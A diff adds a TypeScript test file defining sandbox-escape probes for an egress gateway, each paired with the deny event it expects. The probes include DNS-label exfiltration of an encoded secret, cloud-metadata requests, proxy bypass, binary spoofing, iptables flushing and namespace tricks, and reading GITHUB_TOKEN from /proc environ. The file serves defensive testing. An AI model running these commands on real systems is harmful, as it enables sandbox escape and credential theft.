@@ -1,0 +1,352 @@
+// The escape battery's network and privilege probes: one row per attempt, each with what must be seen.
+// Scripts print ESCAPED when the attempt got through; the battery also checks the counting targets.
+import type { EgressEvent } from '../../src/common/event.js';
+import { curl, DNS_TYPE, dnsQuery, quicFromNode, tcp6, udpSend } from './scripts.js';
+
+/** Where the battery's sandboxes and targets are. */
+export interface ProbeContext {
+  readonly bridgeIp: string;
+  /** TCP and UDP port of the host target on the bridge IP. */
+  readonly hostPort: number;
+  readonly peerIp: string;
+  readonly peerPort: number;
+}
+
+/** Counting targets that must see nothing. */
+export type TargetName = 'upstream' | 'host' | 'resolver' | 'peer';
+
+type Field = string | number | RegExp;
+
+export interface EventExpect {
+  readonly layer: EgressEvent['layer'];
+  readonly action: EgressEvent['action'];
+  readonly binary?: Field;
+  readonly host?: Field;
+  readonly ip?: Field;
+  readonly port?: Field;
+  readonly protocol?: EgressEvent['protocol'];
+  readonly reason?: RegExp;
+}
+
+export interface Expect {
+  readonly exitNonZero?: boolean;
+  /** A gateway event that must be logged for the probe's sandbox. */
+  readonly event?: EventExpect;
+  readonly reachedNothing: readonly TargetName[];
+}
+
+export interface Probe {
+  readonly name: string;
+  /** Which prober sandbox runs it. */
+  readonly box: 'a' | 'b';
+  readonly script: (c: ProbeContext) => string;
+  readonly expect: (c: ProbeContext) => Expect;
+}
+
+const CURL = '/usr/bin/curl';
+const PYTHON = '/usr/bin/python3';
+const EXFIL = 'c2VjcmV0LXRva2Vu';
+const deny = (layer: EgressEvent['layer'], rest: Omit<EventExpect, 'layer' | 'action'>): EventExpect => ({
+  layer,
+  action: 'deny',
+  ...rest,
+});
+
+export const PROBES: readonly Probe[] = [
+  {
+    name: 'direct IP (TEST-NET)',
+    box: 'a',
+    script: () => curl('http://192.0.2.10:8080/'),
+    expect: () => ({
+      event: deny('connect', { binary: CURL, ip: '192.0.2.10', port: 8080 }),
+      reachedNothing: ['upstream'],
+    }),
+  },
+  {
+    name: 'hard-coded resolver over UDP',
+    box: 'b',
+    script: () => dnsQuery(`${EXFIL}.udp-resolver.test`, '203.0.113.53', DNS_TYPE.A, false),
+    expect: () => ({
+      exitNonZero: true,
+      event: deny('dns', { host: `${EXFIL}.udp-resolver.test`, protocol: 'udp', binary: PYTHON }),
+      reachedNothing: ['resolver'],
+    }),
+  },
+  {
+    name: 'hard-coded resolver over TCP',
+    box: 'a',
+    script: () => dnsQuery(`${EXFIL}.tcp-resolver.test`, '203.0.113.53', DNS_TYPE.A, true),
+    expect: () => ({
+      exitNonZero: true,
+      event: deny('dns', { host: `${EXFIL}.tcp-resolver.test`, protocol: 'tcp', binary: PYTHON }),
+      reachedNothing: ['resolver'],
+    }),
+  },
+  {
+    name: "Docker's embedded resolver 127.0.0.11 (UDP)",
+    box: 'b',
+    script: () => dnsQuery(`${EXFIL}.embedded-udp.test`, '127.0.0.11', DNS_TYPE.A, false),
+    expect: () => ({
+      exitNonZero: true,
+      event: deny('dns', { host: `${EXFIL}.embedded-udp.test`, protocol: 'udp' }),
+      reachedNothing: ['resolver'],
+    }),
+  },
+  {
+    name: "Docker's embedded resolver 127.0.0.11 (TCP)",
+    box: 'a',
+    script: () => dnsQuery(`${EXFIL}.embedded-tcp.test`, '127.0.0.11', DNS_TYPE.A, true),
+    expect: () => ({
+      exitNonZero: true,
+      event: deny('dns', { host: `${EXFIL}.embedded-tcp.test`, protocol: 'tcp', binary: PYTHON }),
+      reachedNothing: ['resolver'],
+    }),
+  },
+  {
+    name: 'DNS label exfiltration (plain)',
+    box: 'b',
+    script: (c) => dnsQuery(`${EXFIL}.label-exfil.test`, c.bridgeIp, DNS_TYPE.A, false),
+    expect: () => ({
+      exitNonZero: true,
+      event: deny('dns', { host: `${EXFIL}.label-exfil.test`, reason: /not allowed/ }),
+      reachedNothing: ['resolver'],
+    }),
+  },
+  {
+    name: 'DNS label exfiltration under an allowed wildcard, then a connection to it',
+    box: 'a',
+    script: (c) =>
+      `${dnsQuery(`${EXFIL}.exfil.githubcopilot.com`, c.bridgeIp, DNS_TYPE.A, false, false)}\n` +
+      curl(`http://${EXFIL}.exfil.githubcopilot.com:443/`),
+    expect: () => ({
+      event: deny('connect', { host: `${EXFIL}.exfil.githubcopilot.com`, binary: CURL, port: 443 }),
+      reachedNothing: ['resolver', 'upstream'],
+    }),
+  },
+  {
+    name: 'TXT query for an allowed name',
+    box: 'b',
+    script: (c) => dnsQuery('api.anthropic.com', c.bridgeIp, DNS_TYPE.TXT, false),
+    expect: () => ({
+      exitNonZero: true,
+      event: deny('dns', { host: 'api.anthropic.com', reason: /TXT/ }),
+      reachedNothing: ['resolver'],
+    }),
+  },
+  {
+    name: 'ANY query for an allowed name',
+    box: 'a',
+    script: (c) => dnsQuery('api.anthropic.com', c.bridgeIp, DNS_TYPE.ANY, true),
+    expect: () => ({
+      exitNonZero: true,
+      event: deny('dns', { host: 'api.anthropic.com', reason: /ANY/ }),
+      reachedNothing: ['resolver'],
+    }),
+  },
+  {
+    name: 'AAAA-only label exfiltration (denied name)',
+    box: 'b',
+    script: (c) => dnsQuery(`${EXFIL}.aaaa-exfil.test`, c.bridgeIp, DNS_TYPE.AAAA, false),
+    expect: () => ({
+      exitNonZero: true,
+      event: deny('dns', { host: `${EXFIL}.aaaa-exfil.test` }),
+      reachedNothing: ['resolver'],
+    }),
+  },
+  {
+    name: 'UDP to a TEST-NET address',
+    box: 'a',
+    script: () => udpSend('198.51.100.9', 9999),
+    expect: () => ({
+      exitNonZero: true,
+      event: deny('udp', { ip: '198.51.100.9', port: 9999, binary: PYTHON }),
+      reachedNothing: [],
+    }),
+  },
+  {
+    name: 'QUIC-style UDP/443 to an allowed host, from node',
+    box: 'b',
+    script: () => quicFromNode('api.anthropic.com'),
+    expect: () => ({
+      exitNonZero: true,
+      event: deny('udp', { ip: /^198\.1[89]\./, port: 443, binary: '/usr/bin/node' }),
+      reachedNothing: ['upstream'],
+    }),
+  },
+  {
+    name: 'IPv6 global address',
+    box: 'a',
+    script: () => tcp6('2001:db8::1', 80),
+    expect: () => ({ exitNonZero: true, reachedNothing: [] }),
+  },
+  {
+    name: 'IPv6 loopback',
+    box: 'b',
+    script: () => tcp6('::1', 443),
+    expect: () => ({ exitNonZero: true, reachedNothing: [] }),
+  },
+  {
+    name: 'IPv4-mapped IPv6 address (::ffff:192.0.2.77)',
+    box: 'a',
+    script: () => tcp6('::ffff:192.0.2.77', 80),
+    expect: () => ({
+      exitNonZero: true,
+      event: deny('connect', { ip: '192.0.2.77', port: 80, binary: PYTHON }),
+      reachedNothing: [],
+    }),
+  },
+  {
+    name: "the host's other TCP port on the bridge IP",
+    box: 'b',
+    script: (c) => curl(`http://${c.bridgeIp}:${c.hostPort}/`),
+    expect: (c) => ({
+      event: deny('connect', { ip: c.bridgeIp, port: c.hostPort, binary: CURL }),
+      reachedNothing: ['host'],
+    }),
+  },
+  {
+    name: "the host's UDP port on the bridge IP",
+    box: 'a',
+    script: (c) => udpSend(c.bridgeIp, c.hostPort),
+    expect: (c) => ({
+      exitNonZero: true,
+      event: deny('udp', { ip: c.bridgeIp, port: c.hostPort }),
+      reachedNothing: ['host'],
+    }),
+  },
+  {
+    name: "another sandbox's IP (TCP)",
+    box: 'b',
+    script: (c) => curl(`http://${c.peerIp}:${c.peerPort}/`),
+    expect: (c) => ({
+      event: deny('connect', { ip: c.peerIp, port: c.peerPort, binary: CURL }),
+      reachedNothing: ['peer'],
+    }),
+  },
+  {
+    name: "another sandbox's IP (UDP)",
+    box: 'a',
+    script: (c) => udpSend(c.peerIp, c.peerPort),
+    expect: (c) => ({
+      exitNonZero: true,
+      event: deny('udp', { ip: c.peerIp, port: c.peerPort }),
+      reachedNothing: ['peer'],
+    }),
+  },
+  {
+    name: 'cloud metadata 169.254.169.254',
+    box: 'b',
+    script: () => curl('http://169.254.169.254/latest/meta-data/'),
+    expect: () => ({
+      event: deny('connect', { ip: '169.254.169.254', port: 80, binary: CURL }),
+      reachedNothing: [],
+    }),
+  },
+  {
+    name: 'proxy-env bypass (proxy variables unset)',
+    box: 'a',
+    script: () =>
+      `unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy NO_PROXY no_proxy; ${curl('http://api.anthropic.com:443/', { proxy: true })}`,
+    expect: () => ({
+      event: deny('connect', { host: 'api.anthropic.com', port: 443, binary: CURL }),
+      reachedNothing: ['upstream'],
+    }),
+  },
+  {
+    name: 'allowed host through the explicit proxy, wrong binary',
+    box: 'b',
+    script: () => curl('http://api.openai.com:443/', { proxy: true }),
+    expect: () => ({
+      event: deny('http', { host: 'api.openai.com', port: 443, binary: CURL }),
+      reachedNothing: ['upstream'],
+    }),
+  },
+  {
+    name: 'binary spoofing: curl copied to /sandbox/node',
+    box: 'a',
+    script: () =>
+      `cp /usr/bin/curl /sandbox/node && ${curl('http://api.anthropic.com:443/', { bin: '/sandbox/node' })}`,
+    expect: () => ({
+      event: deny('connect', { host: 'api.anthropic.com', port: 443, binary: '/sandbox/node' }),
+      reachedNothing: ['upstream'],
+    }),
+  },
+  {
+    name: 'binary spoofing through the proxy: curl copied to /sandbox/copilot/node',
+    box: 'b',
+    script: () =>
+      'mkdir -p /sandbox/copilot && cp /usr/bin/curl /sandbox/copilot/node && ' +
+      curl('http://api.githubcopilot.com:443/', { bin: '/sandbox/copilot/node', proxy: true }),
+    expect: () => ({
+      event: deny('http', { host: 'api.githubcopilot.com', binary: '/sandbox/copilot/node' }),
+      reachedNothing: ['upstream'],
+    }),
+  },
+  {
+    name: 'binary spoofing through the proxy: python3 copied to /sandbox/python3 (pypi.org allows /usr/bin/python3*)',
+    box: 'a',
+    script: () =>
+      'cp /usr/bin/python3 /sandbox/python3 && /sandbox/python3 -c "' +
+      "import urllib.request as u; u.urlopen(u.Request('http://pypi.org:443/'), timeout=4); print('ESCAPED')\"",
+    expect: () => ({
+      exitNonZero: true,
+      event: deny('http', { host: 'pypi.org', port: 443, binary: '/sandbox/python3' }),
+      reachedNothing: ['upstream'],
+    }),
+  },
+  {
+    name: 'binary spoofing: curl copied to /tmp/node (noexec)',
+    box: 'b',
+    script: () =>
+      `cp /usr/bin/curl /tmp/node && ${curl('http://api.anthropic.com:443/', { bin: '/tmp/node' })}`,
+    expect: () => ({ exitNonZero: true, reachedNothing: ['upstream'] }),
+  },
+  {
+    name: 'changing the route from inside (ip route del default)',
+    box: 'a',
+    script: () =>
+      "ip route del default && echo ESCAPED; ip route | grep -q '^default via' || echo ESCAPED; exit 1",
+    expect: () => ({ exitNonZero: true, reachedNothing: [] }),
+  },
+  {
+    name: 'changing the fence from inside (iptables, raw socket, new user+net namespace)',
+    box: 'b',
+    script: () =>
+      'command -v iptables >/dev/null && iptables -t nat -F && echo ESCAPED; ' +
+      'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 6); print(\'ESCAPED\')"; ' +
+      'unshare -Urn true && echo ESCAPED; ip link set eth0 down && echo ESCAPED; exit 1',
+    expect: () => ({ exitNonZero: true, reachedNothing: [] }),
+  },
+  {
+    name: "reading the host's environment (GITHUB_TOKEN, ACTIONS_RUNTIME_TOKEN)",
+    box: 'a',
+    script: () =>
+      "(env; tr '\\0' '\\n' </proc/1/environ; tr '\\0' '\\n' </proc/self/environ) | " +
+      'grep -E "GITHUB_TOKEN|ACTIONS_|_never_inside" && echo ESCAPED; exit 1',
+    expect: () => ({ exitNonZero: true, reachedNothing: [] }),
+  },
+  {
+    name: 'writing outside the read_write paths',
+    box: 'b',
+    script: () =>
+      'for p in /usr/x /etc/x /x /var/x /opt/x /root/x /home/x /run/x /dev/shm/x /sys/fs/cgroup/x; do ' +
+      'touch "$p" 2>/dev/null && echo "ESCAPED $p"; done; exit 1',
+    expect: () => ({ exitNonZero: true, reachedNothing: [] }),
+  },
+];
+
+/** Does an event match the expectation (exact fields, or a RegExp)? Names compare as the gateway logs them: lower case. */
+export function eventMatches(e: EgressEvent, want: EventExpect): boolean {
+  const same = (actual: unknown, field: Field | undefined) =>
+    field === undefined || (field instanceof RegExp ? field.test(String(actual ?? '')) : actual === field);
+  return (
+    e.layer === want.layer &&
+    e.action === want.action &&
+    same(e.binary, want.binary) &&
+    same(e.host, typeof want.host === 'string' ? want.host.toLowerCase() : want.host) &&
+    same(e.ip, want.ip) &&
+    same(e.port, want.port) &&
+    same(e.protocol, want.protocol) &&
+    same(e.reason, want.reason)
+  );
+}
